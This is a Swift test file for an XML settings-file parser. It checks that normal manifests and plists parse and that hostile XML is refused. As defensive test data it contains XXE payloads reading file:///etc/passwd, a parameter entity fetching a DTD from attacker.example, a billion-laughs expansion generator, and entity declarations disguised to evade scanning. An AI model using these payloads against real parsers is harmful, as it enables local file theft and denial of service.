import AppProject
import Foundation
import Testing

/// `XMLTreeReader` over the shapes real settings files take, and over hostile ones: every refusal is an
/// ``AppFileError`` with a reason (and a line where the parser knows one), never a crash, a hang or a file read.
@Suite struct XMLTreeReaderTests {
    static let plistDoctype =
        #"<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">"#

    /// A document that parses, and what its tree holds at `path` (child names from the root).
    struct Parses: Sendable, CustomTestStringConvertible {
        var testDescription: String
        var xml: [UInt8]
        var root: String
        var path: [String] = []
        /// The node's text, whitespace trimmed.
        var text: String? = nil
        /// `attribute(_:)` lookups on the node: local name → value (nil: absent).
        var attributes: [String: String?] = [:]
        var line: Int? = nil
        var childCount: Int? = nil
    }

    static let parsing: [Parses] = [
        Parses(
            testDescription: "XML declaration with encoding, a comment, then the root",
            xml: "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!-- generated -->\n<manifest package=\"com.shop\"/>\n"
                .bytes,
            root: "manifest", attributes: ["package": "com.shop"], line: 3),
        Parses(
            testDescription: "the five predefined entities and numeric references, in text and attributes",
            xml: "<r a=\"&lt;&amp;&gt;&quot;&apos;&#65;&#x42;\">&lt;&amp;&gt;&quot;&apos;&#x263A;&#9731;</r>".bytes,
            root: "r", text: "<&>\"'☺☃", attributes: ["a": "<&>\"'AB"]),
        Parses(
            testDescription: "xmlns:android prefixes: attribute(_:) finds by local name and by the name as written",
            xml: """
                <manifest xmlns:android="http://schemas.android.com/apk/res/android">
                    <application android:usesCleartextTraffic="true" android:label="Shop"/>
                </manifest>
                """.bytes,
            root: "manifest", path: ["application"],
            attributes: [
                "usesCleartextTraffic": "true", "android:usesCleartextTraffic": "true", "label": "Shop",
                "networkSecurityConfig": nil,
            ],
            line: 2),
        Parses(
            testDescription: "the Android namespace bound to another prefix (a:) is found by local name",
            xml: """
                <manifest xmlns:a="http://schemas.android.com/apk/res/android">
                  <application a:networkSecurityConfig="@xml/nsc"/>
                </manifest>
                """.bytes,
            root: "manifest", path: ["application"], attributes: ["networkSecurityConfig": "@xml/nsc"]),
        Parses(
            testDescription: "the plist DOCTYPE with its public http DTD parses (the DTD is never fetched)",
            xml:
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\(plistDoctype)\n<plist version=\"1.0\">\n<dict/>\n</plist>\n"
                .bytes,
            root: "plist", attributes: ["version": "1.0"], line: 3, childCount: 1),
        Parses(
            testDescription: "a DOCTYPE naming a local SYSTEM DTD parses without reading it",
            xml: "<!DOCTYPE r SYSTEM \"file:///etc/passwd\">\n<r>x</r>".bytes, root: "r", text: "x"),
        Parses(
            testDescription: "whitespace and line breaks between elements; lines counted",
            xml: "\n\n<r>\n\n   <a/>\n\t<b>\n  spaced  \n</b>\n</r>\n\n".bytes, root: "r", path: ["b"],
            text: "spaced", line: 6),
        Parses(
            testDescription: "CRLF line ends",
            xml: "<r>\r\n<a x=\"1\"/>\r\n<b/>\r\n</r>\r\n".bytes, root: "r", path: ["b"], line: 3),
        Parses(
            testDescription: "a UTF-8 byte order mark",
            xml: [0xEF, 0xBB, 0xBF] + "<r>é</r>".bytes, root: "r", text: "é"),
        Parses(
            testDescription: "ISO-8859-1 declared: its bytes are decoded",
            xml: "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r>".bytes + [0xE9] + "</r>".bytes, root: "r",
            text: "é"),
        Parses(
            testDescription: "nesting exactly at the cap (64)",
            xml: (String(repeating: "<a>", count: XMLTreeReader.maxDepth)
                + String(repeating: "</a>", count: XMLTreeReader.maxDepth)).bytes,
            root: "a", path: Array(repeating: "a", count: XMLTreeReader.maxDepth - 1), childCount: 0),
    ]

    @Test(arguments: parsing)
    func parses(_ row: Parses) throws {
        let tree = try XMLTreeReader.parse(row.xml, file: "settings.xml")
        #expect(tree.name == row.root)
        var node = tree
        for name in row.path {
            node = try #require(node.children(named: name).first, "no <\(name)> under <\(node.name)>")
        }
        if let text = row.text {
            #expect(node.text.trimmingCharacters(in: .whitespacesAndNewlines) == text)
        }
        for (name, value) in row.attributes { #expect(node.attribute(name) == value, "attribute \(name)") }
        if let line = row.line { #expect(node.line == line) }
        if let count = row.childCount { #expect(node.children.count == count) }
    }

    /// A document that is refused, and how.
    struct Refused: Sendable, CustomTestStringConvertible {
        var testDescription: String
        var xml: [UInt8]
        var refusal: Refusal
    }

    static let entityRefusal = "declares an XML entity (<!ENTITY …>); entities are never expanded or fetched"

    static var billionLaughs: String {
        var lines = ["<?xml version=\"1.0\"?>", "<!DOCTYPE lolz [", "  <!ENTITY lol \"lol\">"]
        for level in 1...9 {
            let previous = level == 1 ? "lol" : "lol\(level - 1)"
            lines.append("  <!ENTITY lol\(level) \"" + String(repeating: "&\(previous);", count: 10) + "\">")
        }
        lines += ["]>", "<lolz>&lol9;</lolz>"]
        return lines.joined(separator: "\n")
    }

    static let refusals: [Refused] = [
        // `<!ENTITY` anywhere refuses the file, in a comment or CDATA too: no settings file needs the text, and a
        // scan that tried to tell comments apart can be fooled (a `<!--` inside a DOCTYPE literal).
        Refused(
            testDescription: "a comment that mentions <!ENTITY is refused too",
            xml:
                "<?xml version=\"1.0\"?>\n<!-- never write <!ENTITY x SYSTEM \"file:///etc/passwd\"> here -->\n<r>ok</r>"
                .bytes,
            refusal: Refusal(reason: [entityRefusal], line: .at(2))),
        Refused(
            testDescription: "CDATA with <!ENTITY inside is refused too",
            xml: "<r><![CDATA[<!ENTITY x \"y\"> & <b>bold</b>]]>tail</r>".bytes,
            refusal: Refusal(reason: [entityRefusal], line: .at(1))),
        Refused(
            testDescription: "UTF-16 (with a byte order mark) is refused: save it as UTF-8",
            xml: "<?xml version=\"1.0\" encoding=\"UTF-16\"?><r a=\"1\">hi</r>".utf16LE,
            refusal: Refusal(reason: ["not UTF-8"], line: .none)),
        Refused(
            testDescription: "billion laughs: refused at the first <!ENTITY, nothing expanded",
            xml: billionLaughs.bytes, refusal: Refusal(reason: [entityRefusal], line: .at(3))),
        Refused(
            testDescription: "an external entity SYSTEM file:///etc/passwd is refused, the file never read",
            xml: """
                <?xml version="1.0"?>
                <!DOCTYPE manifest [
                <!ENTITY xxe SYSTEM "file:///etc/passwd">
                ]>
                <manifest>&xxe;</manifest>
                """.bytes,
            refusal: Refusal(reason: [entityRefusal, "so the file is not read"], line: .at(3), never: ["root:"])),
        Refused(
            testDescription: "a parameter entity (%) with an external DTD is refused",
            xml: "<!DOCTYPE r [\n<!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\">\n%remote;\n]>\n<r/>"
                .bytes,
            refusal: Refusal(reason: [entityRefusal], line: .at(2))),
        Refused(
            testDescription: "an internal entity, however harmless, is refused",
            xml: "<!DOCTYPE r [<!ENTITY company \"Shop\">]><r>&company;</r>".bytes,
            refusal: Refusal(reason: [entityRefusal], line: .at(1))),
        Refused(
            testDescription: "an entity reference without any DTD (&undefined;)",
            xml: "<r>\n<a>&undefined;</a>\n<b/>\n<c/>\n</r>".bytes,
            refusal: Refusal(reason: ["not well-formed XML", "libxml2 error"], line: .at(2))),
        Refused(
            testDescription: "nesting one deeper than the cap, one element a line",
            xml: (String(repeating: "<a>\n", count: XMLTreeReader.maxDepth + 1)
                + String(repeating: "</a>\n", count: XMLTreeReader.maxDepth + 1)).bytes,
            refusal: Refusal(
                reason: ["nested deeper than \(XMLTreeReader.maxDepth) elements"],
                line: .at(XMLTreeReader.maxDepth + 1))),
        Refused(
            testDescription: "a hundred thousand levels of nesting (no stack overflow)",
            xml: (String(repeating: "<a>", count: 100_000) + String(repeating: "</a>", count: 100_000)).bytes,
            refusal: Refusal(reason: ["nested deeper than \(XMLTreeReader.maxDepth) elements"])),
        Refused(
            testDescription: "one byte over the size cap",
            xml: "<r>".bytes + [UInt8](repeating: 0x20, count: XMLTreeReader.maxBytes - 6) + "</r>".bytes,
            refusal: Refusal(reason: ["larger than 4 MiB; not a settings file"], line: .none)),
        Refused(
            testDescription: "truncated in the middle of the document",
            xml: "<?xml version=\"1.0\"?>\n<manifest>\n  <application android:label=\"Sh".bytes,
            refusal: Refusal(reason: ["not well-formed XML"])),
        Refused(
            testDescription: "truncated after an open element",
            xml: "<manifest>\n<application>\n".bytes, refusal: Refusal(reason: ["not well-formed XML"])),
        Refused(
            testDescription: "bytes that are not UTF-8 in a UTF-8 document",
            xml: "<r>".bytes + [0xFF, 0xFE, 0xC3] + "</r>".bytes,
            refusal: Refusal(reason: ["not well-formed XML", "libxml2 error"], line: .at(1))),
        Refused(
            testDescription: "an empty file", xml: [], refusal: Refusal(reason: ["not well-formed XML"], line: .none)),
        Refused(
            testDescription: "only whitespace", xml: "  \n\n ".bytes, refusal: Refusal(reason: ["not well-formed XML"])),
        Refused(
            testDescription: "mismatched end tag",
            xml: "<r>\n<a></b>\n<b/>\n<c/>\n</r>".bytes,
            refusal: Refusal(reason: ["not well-formed XML"], line: .at(2))),
        Refused(
            testDescription: "a repeated attribute on line 3 of a long document",
            xml: ("<r>\n<ok/>\n<a b=\"1\" b=\"2\"/>\n" + String(repeating: "<ok/>\n", count: 100) + "</r>\n").bytes,
            refusal: Refusal(reason: ["not well-formed XML"], line: .at(3))),
        Refused(
            testDescription: "text before the root", xml: "hello <r/>".bytes,
            refusal: Refusal(reason: ["not well-formed XML"])),
        Refused(
            testDescription: "a JSON file where XML is expected", xml: #"{"plist": true}"#.bytes,
            refusal: Refusal(reason: ["not well-formed XML"])),
    ]

    @Test(arguments: refusals)
    func refused(_ row: Refused) throws {
        guard let error = appFileError({ () throws(AppFileError) in try XMLTreeReader.parse(row.xml, file: "x.xml") })
        else { return }
        row.refusal.check(error, file: "x.xml")
    }

    /// Entity declarations disguised from a scan that skips comments: the document declares an entity, so it is
    /// refused (a UTF-16 one as not UTF-8). Also: no file is read and nothing hangs.
    struct Disguised: Sendable, CustomTestStringConvertible {
        var testDescription: String
        var xml: @Sendable (_ secretFile: String) -> [UInt8]
    }

    static let disguises: [Disguised] = [
        Disguised(testDescription: "the document in UTF-16: the byte scan looks for UTF-8 '<!ENTITY'") { secret in
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE r [<!ENTITY t \"true\"><!ENTITY x SYSTEM \"file://\(secret)\">]><r a=\"&t;\">&x;</r>"
                .utf16LE
        },
        Disguised(testDescription: "a '<!--' inside the DOCTYPE's SYSTEM literal hides what follows from the scan") {
            secret in
            "<!DOCTYPE r SYSTEM \"<!--\" [<!ENTITY t \"true\"><!ENTITY x SYSTEM \"file://\(secret)\">]><r a=\"&t;\">&x;</r>"
                .bytes
        },
        Disguised(testDescription: "a '<!--' inside a processing instruction before the DOCTYPE") { secret in
            "<?note <!-- ?><!DOCTYPE r [<!ENTITY t \"true\"><!ENTITY x SYSTEM \"file://\(secret)\">]><r a=\"&t;\">&x;</r>"
                .bytes
        },
        Disguised(testDescription: "billion laughs in UTF-16") { _ in billionLaughs.utf16LE },
    ]

    @Test(arguments: disguises)
    func disguisedEntityDeclarationsAreRefused(_ row: Disguised) throws {
        let tree = try TempTree("xxe")
        defer { tree.remove() }
        let secret = "SECRET-\(UUID())"
        try tree.write("secret.txt", secret)
        let xml = row.xml(tree.path("secret.txt"))
        let started = Date()
        var parsed: XMLTreeNode?
        var failure: AppFileError?
        do { parsed = try XMLTreeReader.parse(xml, file: "x.xml") } catch { failure = error }
        // Already true: quick, and the file's content is nowhere.
        #expect(Date().timeIntervalSince(started) < 5)
        if let parsed {
            #expect(!parsed.text.contains(secret) && !parsed.attributes.values.contains { $0.contains(secret) })
        }
        #expect(!(failure?.description.contains(secret) ?? false))
        let reason = failure?.reason ?? "parsed: \(parsed.map { "\($0.attributes)" } ?? "")"
        #expect(reason.contains("declares an XML entity") || reason.contains("not UTF-8"), "\(reason)")
    }

    @Test func textAfterTheRootElementIsRefused() throws {
        withKnownIssue(
            "XMLParser (FoundationXML) stops at the root's end tag and reports success: what follows is unseen"
        ) {
            for xml in ["<plist><dict/></plist><plist><array/></plist>", "<a>1</a>junk"] {
                let error = appFileError { () throws(AppFileError) in try XMLTreeReader.parse(xml.bytes, file: "x.xml")
                }
                #expect(error?.reason.contains("after the") == true, "\(xml): \(error.map(\.description) ?? "parsed")")
            }
        }
    }
}
